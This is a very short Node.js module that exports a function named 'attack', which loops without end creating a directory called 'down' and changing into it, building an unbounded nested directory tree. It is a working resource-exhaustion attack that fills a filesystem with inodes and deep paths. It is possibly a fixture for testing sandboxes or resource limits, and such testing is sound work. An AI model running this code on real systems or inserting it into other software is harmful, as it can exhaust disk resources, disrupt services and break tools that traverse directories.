const fs = require('node:fs')

exports.attack = () => {
  for (;;) {
    fs.mkdirSync('down')
    process.chdir('down')
  }
}
